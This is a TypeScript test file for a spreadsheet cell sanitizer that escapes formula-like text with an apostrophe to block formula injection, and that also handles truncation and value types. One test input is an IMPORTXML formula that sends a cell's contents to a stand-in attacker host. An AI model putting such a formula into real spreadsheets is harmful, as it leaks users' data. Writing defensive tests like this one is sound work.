import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  CELL_CHAR_LIMIT,
  needsApostrophe,
  safeText,
  toCellValue,
  truncateText,
} from "../../src/sheet/cell-value";

/** What Sheets shows for a string written with setValues that starts with an apostrophe. */
const shown = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);

describe("toCellValue", () => {
  it("turns null, undefined and other non-values into empty cells", () => {
    for (const value of [null, undefined, Number.NaN, Number.POSITIVE_INFINITY, () => 1, Symbol("s")]) {
      expect(toCellValue(value)).toBe("");
    }
  });

  it("keeps numbers and booleans as they are", () => {
    expect(toCellValue(42)).toBe(42);
    expect(toCellValue(-3.5)).toBe(-3.5);
    expect(toCellValue(true)).toBe(true);
    expect(toCellValue(false)).toBe(false);
  });

  it("writes formula-like text literally", () => {
    expect(toCellValue('=IMPORTXML("https://evil.example/?"&A1,"//a")')).toBe(
      `'=IMPORTXML("https://evil.example/?"&A1,"//a")`,
    );
    expect(toCellValue("+1 555 0100")).toBe("'+1 555 0100");
    expect(toCellValue("-- VP Sales --")).toBe("'-- VP Sales --");
    expect(toCellValue("@jane")).toBe("'@jane");
    expect(toCellValue("  =1+1")).toBe("'  =1+1");
    expect(toCellValue("\tHello")).toBe("'\tHello");
    expect(toCellValue("\r\nHello")).toBe("'\r\nHello");
  });

  it("keeps numeric-looking and boolean-looking text as text", () => {
    expect(toCellValue("02139")).toBe("'02139");
    expect(toCellValue("1234567890123456789")).toBe("'1234567890123456789");
    expect(toCellValue("1,200")).toBe("'1,200");
    expect(toCellValue("TRUE")).toBe("'TRUE");
    expect(toCellValue("12%")).toBe("'12%");
    expect(toCellValue("'Tis the season")).toBe("''Tis the season");
  });

  it("keeps date-looking text as text, headcount ranges included", () => {
    for (const text of [
      "1-10",
      "11-50",
      "1001-5000",
      "2024-01-15",
      "2024-01-15T10:11:12.123456",
      "1/15/2024",
    ]) {
      expect(toCellValue(text)).toBe(`'${text}`);
    }
    for (const text of ["Mar 2020", "March, 2020", "15 Mar 2020", "10:30"])
      expect(toCellValue(text)).toBe(`'${text}`);
  });

  it("writes the full-width and compatibility forms of = + - @ literally (a CSV opened in Excel reads them as formulas)", () => {
    for (const text of [
      "＝1+1",
      "＋81 3 1234",
      "－5",
      "＠SUM(1,2)",
      "﹦1+1",
      "﹢1",
      "﹣1",
      "﹫x",
      "₋1",
      "−5",
      " ＝1+1",
      "\t＠x",
    ]) {
      expect(toCellValue(text)).toBe(`'${text}`);
    }
  });

  it("keeps text that Sheets reads as an error value, a fraction, a time of day or a trailing-currency amount as text", () => {
    for (const text of [
      "#N/A",
      "#REF!",
      "#VALUE!",
      "#DIV/0!",
      "#NAME?",
      "#NUM!",
      "#NULL!",
      "#ERROR!",
      " #n/a",
    ]) {
      expect(toCellValue(text)).toBe(`'${text}`);
    }
    for (const text of [
      "1 1/2",
      "0 3/4",
      "12 7/8",
      "3pm",
      "3 PM",
      "11 am",
      "9:05 a.m.",
      "12,5 €",
      "40$",
      "99 £",
    ]) {
      expect(toCellValue(text)).toBe(`'${text}`);
    }
  });

  it("leaves ordinary text alone", () => {
    for (const text of [
      "Jane Doe",
      "VP of Sales",
      "10 000+",
      "5001+",
      "a=b",
      "e-mail",
      "Acme 2.0",
      "",
      "#1 in sales",
      "#hashtag",
      "3 people",
      "Team of 12 1/2-time staff",
      "東京＝大阪",
    ]) {
      expect(toCellValue(text)).toBe(text);
    }
  });

  it("skips the apostrophe for custom function results, which Sheets does not parse", () => {
    expect(toCellValue("=1+1", { target: "customFunction" })).toBe("=1+1");
    expect(toCellValue(["a"], { target: "customFunction" })).toBe('["a"]');
  });

  it("shows nested data as compact JSON; empty ones as empty cells", () => {
    expect(toCellValue(["SaaS", "AI"])).toBe('["SaaS","AI"]');
    expect(toCellValue({ year: 2020, month: 3 })).toBe('{"year":2020,"month":3}');
    expect(toCellValue([])).toBe("");
    expect(toCellValue({})).toBe("");
  });

  it("survives values JSON cannot hold", () => {
    const cyclic: Record<string, unknown> = {};
    cyclic.self = cyclic;
    expect(toCellValue(cyclic)).toMatch(/cannot be shown/);
    expect(toCellValue(12n)).toBe("'12");
    expect(toCellValue(new Date(Date.UTC(2024, 0, 2)))).toBe("2024-01-02T00:00:00.000Z");
  });

  it("cuts long text at the cell limit with a visible marker", () => {
    const long = "x".repeat(CELL_CHAR_LIMIT + 10);
    const cell = toCellValue(long) as string;
    expect(cell.length).toBeLessThanOrEqual(CELL_CHAR_LIMIT);
    expect(cell).toMatch(/…\[truncated: 50,010 characters in full\]$/);
    expect(long.startsWith(cell.slice(0, 1000))).toBe(true);
  });

  it("marks truncated JSON as truncated", () => {
    const posts = Array.from({ length: 2000 }, (_, i) => ({ text: `post ${i} `.repeat(10) }));
    const cell = toCellValue(posts) as string;
    expect(cell.length).toBeLessThanOrEqual(CELL_CHAR_LIMIT);
    expect(cell.startsWith('[{"text":')).toBe(true);
    expect(cell).toMatch(/…\[truncated: [\d,]+ characters in full\]$/);
  });

  it("keeps an apostrophed long text within the limit", () => {
    const cell = toCellValue(`=${"y".repeat(CELL_CHAR_LIMIT)}`) as string;
    expect(cell.startsWith("'=")).toBe(true);
    expect(cell.length).toBeLessThanOrEqual(CELL_CHAR_LIMIT);
  });
});

describe("truncateText", () => {
  it("never splits a surrogate pair", () => {
    const text = "😀".repeat(40);
    for (let limit = 45; limit < 79; limit++) {
      const cut = truncateText(text, limit);
      expect(cut.length).toBeLessThanOrEqual(limit);
      expect(cut.slice(0, cut.indexOf(" …["))).toMatch(/^(😀)*$/u);
    }
  });
});

describe("properties", () => {
  const anyText = fc.oneof(fc.string(), fc.string({ unit: "grapheme" }), fc.string({ unit: "binary" }));

  it("never lets a written string start a formula, and shows it unchanged", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const cell = safeText(text);
        expect(cell.trimStart().normalize("NFKC")).not.toMatch(/^[=+\-@\u2212]/);
        expect(shown(cell)).toBe(text);
      }),
    );
  });

  it("starts every text that could be parsed with an apostrophe", () => {
    const afterSpace = fc
      .tuple(
        fc.constantFrom("", " ", "  ", "\n", "\u3000"),
        fc.constantFrom("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "⁺", "₋"),
        fc.string(),
      )
      .map(([space, start, rest]) => space + start + rest);
    const controlStart = fc
      .tuple(fc.constantFrom("\t", "\r"), fc.string())
      .map(([start, rest]) => start + rest);
    const risky = fc.oneof(afterSpace, controlStart);
    fc.assert(
      fc.property(risky, (text) => {
        expect(safeText(text).startsWith("'")).toBe(true);
      }),
    );
  });

  it("adds the apostrophe only when needed", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(safeText(text) === `'${text}`).toBe(needsApostrophe(text));
      }),
    );
  });

  it("keeps every string within the cell limit, marking any cut", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), fc.integer({ min: 60, max: 200 }), (text, limit) => {
        const cut = truncateText(text, limit);
        expect(cut.length).toBeLessThanOrEqual(limit);
        if (text.length <= limit) expect(cut).toBe(text);
        else expect(cut).toContain("…[truncated:");
      }),
    );
  });

  it("shows any JSON value's text exactly when it fits", () => {
    fc.assert(
      fc.property(fc.jsonValue(), (value) => {
        const cell = toCellValue(value);
        if (typeof value === "number") expect(cell).toBe(Number.isFinite(value) ? value : "");
        else if (typeof value === "boolean") expect(cell).toBe(value);
        else if (value === null) expect(cell).toBe("");
        else if (typeof value === "string") expect(shown(cell as string)).toBe(value);
        else if (Object.keys(value).length > 0) expect(shown(cell as string)).toBe(JSON.stringify(value));
        else expect(cell).toBe("");
      }),
    );
  });
});
